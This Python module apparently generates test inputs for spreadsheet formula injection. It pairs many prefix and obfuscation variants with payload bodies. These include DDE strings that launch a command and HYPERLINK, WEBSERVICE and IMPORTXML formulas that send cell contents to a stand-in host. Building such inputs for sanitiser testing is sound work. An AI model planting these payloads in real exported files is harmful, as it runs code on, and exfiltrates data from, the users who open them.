"""Names and words as somebody would write them who wants a spreadsheet program to run them."""

from collections.abc import Iterator
from itertools import product

BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://example.invalid/?x="&A1,"点这里")',
    'WEBSERVICE("http://example.invalid/"&B2)',
    "SUM(A1:A9)",
    "张三",
    'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    "8613800132206",
    "x",
)
BEGINNINGS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−", "=+", "@=", "-+")
BEFORE = (
    "",
    " ",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u2060",
    "\t",
    "\r",
    "\n",
    "\r\n",
    '"',
    "'",
    "“",
    "`",
    "\x00",
    "\x1f",
)
BETWEEN = (
    "张三,",
    "张三;",
    "张三\n",
    "张三\r\n",
    "张三\t",
    '张三"',
    '张三","',
    '";"',
    "张三|",
    "张三，",
    "张三；\u200b",
)


def payloads() -> list[str]:
    """More than five hundred of them, each once."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for beginning, body in product(BEGINNINGS, BODIES):
        yield beginning + body
    for before, beginning in product(BEFORE, BEGINNINGS[:8]):
        yield f"{before}{beginning}1+1"
        yield f"{before} {beginning}cmd|'/C calc'!A0"
    for between, beginning in product(BETWEEN, BEGINNINGS[:9]):
        yield f"{between}{beginning}1+1"
    yield from ('DDE("cmd";"/C calc";"x")', '=DDE("cmd";"/C calc";"x")', "=", "+", "-", "@", "=" * 300)
